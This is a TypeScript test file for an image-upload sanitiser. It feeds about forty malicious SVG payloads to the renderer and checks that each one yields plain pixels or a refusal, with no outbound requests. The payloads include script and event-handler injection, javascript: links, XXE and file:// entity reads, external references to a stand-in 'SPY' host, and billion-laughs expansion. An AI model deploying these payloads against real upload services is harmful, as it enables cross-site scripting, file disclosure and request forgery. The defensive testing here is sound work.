import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { drawAnew } from '../../server/domain/wizard/uploads/images';
import { pictures } from './support/pictures';

const urlOf = (type: string, body: Uint8Array | string) =>
  `data:image/${type};base64,${Buffer.from(body).toString('base64')}`;
const shape = '<rect x="2" y="2" width="20" height="12" fill="#c2410c"/>';
const svg = (inner: string, attributes = '', head = '') =>
  `${head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="20" ${attributes}>${inner}</svg>`;
const around = (attack: string) => svg(attack + shape);

/** Whoever asks for anything is written down. */
const asked: string[] = [];
let server: Server;
let spy = '';
/** A picture that would be seen if it were shown. */
const folder = mkdtempSync(join(tmpdir(), 'drawings-'));
const file = join(folder, 'black.png');
beforeAll(async () => {
  await sharp({ create: { width: 40, height: 20, channels: 3, background: '#000' } }).toFile(file);
  server = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  spy = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(async () => {
  rmSync(folder, { recursive: true, force: true });
  await new Promise((resolve) => server.close(resolve));
});

const entities = (depth: number) =>
  `<!DOCTYPE svg [<!ENTITY a0 "ha">${Array.from({ length: depth }, (_, place) => `<!ENTITY a${place + 1} "${`&a${place};`.repeat(4)}">`).join('')}]>`;

/** What an SVG may carry beside its shapes; `SPY` is the address of whoever waits to be asked, `FILE` a picture of ours. */
const attacks: Record<string, string> = {
  'a script': around('<script>alert(1)</script>'),
  'a script in CDATA': around('<script type="text/ecmascript"><![CDATA[alert(1)]]></script>'),
  'a script from elsewhere': around('<script href="SPY/a.js"/><script xlink:href="SPY/b.js"/>'),
  'a script of another namespace': around('<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'),
  'onload on the root': svg(shape, 'onload="alert(1)"'),
  'onclick and onmouseover': svg(shape.replace('<rect', '<rect onclick="alert(1)" onmouseover="alert(2)"')),
  'onerror of a picture': around('<image href="SPY/none.png" onerror="alert(1)" width="40" height="20"/>'),
  'onbegin of an animation': around('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'),
  'a foreign object': around(
    '<foreignObject width="40" height="20"><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></body></foreignObject>',
  ),
  'a frame in a foreign object': around(
    '<foreignObject width="40" height="20"><iframe xmlns="http://www.w3.org/1999/xhtml" src="SPY/frame"/></foreignObject>',
  ),
  'a form in a foreign object': around(
    '<foreignObject width="40" height="20"><form xmlns="http://www.w3.org/1999/xhtml" action="SPY/form"><input/></form></foreignObject>',
  ),
  'a link to javascript': around('').replace(shape, `<a href="javascript:alert(1)">${shape}</a>`),
  'an xlink to javascript': around('').replace(shape, `<a xlink:href="javascript:alert(1)">${shape}</a>`),
  'a link to javascript behind entities': around('').replace(shape, `<a href="&#106;avascript:alert(1)">${shape}</a>`),
  'a link to data': around('').replace(
    shape,
    `<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">${shape}</a>`,
  ),
  'a picture from elsewhere': around('<image href="SPY/a.png" width="40" height="20"/>'),
  'a picture from elsewhere, by xlink': around('<image xlink:href="SPY/b.png" width="40" height="20"/>'),
  'a picture from elsewhere, without a scheme': around('<image href="//127.0.0.1/c.png" width="40" height="20"/>'),
  'a file of ours': around('<image href="file://FILE" width="40" height="20"/>'),
  'a file of ours, by its path': around('<image href="FILE" width="40" height="20"/>'),
  'a shape used from elsewhere': around('<use href="SPY/a.svg#a" width="40" height="20"/>'),
  'a shape used from data': around(
    '<use href="data:image/svg+xml,&lt;svg xmlns=%27http://www.w3.org/2000/svg%27 id=%27a%27&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;/svg&gt;#a"/>',
  ),
  'an animated link': around('<a><animate attributeName="href" values="javascript:alert(1)" begin="0s"/></a>'),
  'a link that is set': around('<a id="a"/><set href="#a" attributeName="href" to="javascript:alert(1)"/>'),
  'an animated picture': around('<image><animate attributeName="href" to="SPY/d.png"/></image>'),
  'a style sheet that imports': around('<style>@import url("SPY/a.css");</style>'),
  'a style with addresses': around('<style>rect { -moz-binding: url("SPY/b.xml"); cursor: url("SPY/c.cur") }</style>'),
  'a font from elsewhere': around('<style>@font-face { font-family: a; src: url("SPY/a.woff2") }</style>'),
  'a style sheet as an instruction': svg(shape, '', '<?xml-stylesheet type="text/css" href="SPY/d.css"?>'),
  'an XSLT as an instruction': svg(shape, '', '<?xml-stylesheet type="text/xsl" href="SPY/e.xsl"?>'),
  'an include': around('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://FILE" parse="text"/>'),
  'a document type from elsewhere': svg(shape, '', '<!DOCTYPE svg SYSTEM "SPY/a.dtd">'),
  'an entity that is a file': around('<text y="20">&a;</text>').replace(
    '<svg',
    '<!DOCTYPE svg [<!ENTITY a SYSTEM "file://FILE">]><svg',
  ),
  'an entity from elsewhere': around('<text y="20">&a;</text>').replace(
    '<svg',
    '<!DOCTYPE svg [<!ENTITY a SYSTEM "SPY/entity">]><svg',
  ),
  'a parameter entity from elsewhere': svg(shape, '', '<!DOCTYPE svg [<!ENTITY % a SYSTEM "SPY/parameter"> %a;]>'),
  'entities of entities': svg(`<text y="20">&a29;</text>${shape}`, '', entities(29)),
  'groups without end': around(`${'<g>'.repeat(20_000)}${'</g>'.repeat(20_000)}`),
  'a base elsewhere': svg(`<image href="e.png" width="40" height="20"/>${shape}`, 'xml:base="SPY/"'),
  'a handler': around(
    '<handler xmlns="http://www.w3.org/2001/xml-events" type="application/ecmascript">alert(1)</handler>',
  ),
  'embedded HTML': around('<embed xmlns="http://www.w3.org/1999/xhtml" src="SPY/embed"/>'),
};

describe('a drawing becomes pixels and nothing else', () => {
  /** The picture that a harmless drawing gives, or that none is given. */
  const drawn = (image: string, customer = 'ada') =>
    drawAnew(pictures, image, { customer }).then(
      async ({ data }) => ({
        format: (await sharp(data).metadata()).format,
        data: Buffer.from(data).toString('base64'),
      }),
      (error: { status?: number; code?: string }) => ({ refused: error.status, code: error.code }),
    );
  const sizeOf = async (image: string) => sharp((await drawAnew(pictures, image, { customer: 'ada' })).data).metadata();
  const refused = { refused: 400, code: 'not-an-image' };

  test.each(Object.keys(attacks))('%s', async (name) => {
    const harmless = await drawn(urlOf('svg+xml', svg(shape)));
    const before = asked.length;
    const attack = (attacks[name] ?? '').replaceAll('SPY', spy).replaceAll('FILE', file);
    const result = await drawn(urlOf('svg+xml', attack));
    expect([harmless, refused]).toContainEqual(result);
    expect(asked.slice(before)).toEqual([]);
  });

  test('forty of them were tried', () => expect(Object.keys(attacks).length).toBeGreaterThanOrEqual(40));

  test('a drawing packed with gzip, too', async () => {
    const packed = gzipSync(around('<script>alert(1)</script>'));
    expect(await drawn(urlOf('svg+xml', packed))).toEqual(await drawn(urlOf('svg+xml', svg(shape))));
  });

  test.each([
    ['viewBox="0 0 24 24"', 1_600, 1_600],
    ['width="40" height="20"', 1_600, 800],
    ['width="3000" height="6000"', 800, 1_600],
  ])('%s is drawn %i by %i pixels large', async (size, width, height) => {
    const image = `<svg xmlns="http://www.w3.org/2000/svg" ${size}>${shape}</svg>`;
    expect(await sizeOf(urlOf('svg+xml', image))).toMatchObject({ format: 'png', width, height });
  });

  test.each(['gif', 'tiff', 'avif'] as const)(
    'a %s is none of the four kinds, whatever it is called',
    async (format) => {
      const bytes = await sharp({ create: { width: 9, height: 9, channels: 3, background: '#fff' } })
        .toFormat(format)
        .toBuffer();
      for (const type of ['png', 'jpeg', 'webp', 'svg+xml']) expect(await drawn(urlOf(type, bytes))).toEqual(refused);
    },
  );

  test.each(['jpeg', 'png', 'webp'] as const)('a %s is one', async (format) => {
    const bytes = await sharp({ create: { width: 9, height: 9, channels: 3, background: '#fff' } })
      .toFormat(format)
      .toBuffer();
    expect(await sizeOf(urlOf(format, bytes))).toMatchObject({ format: 'png', width: 9, height: 9 });
  });
});
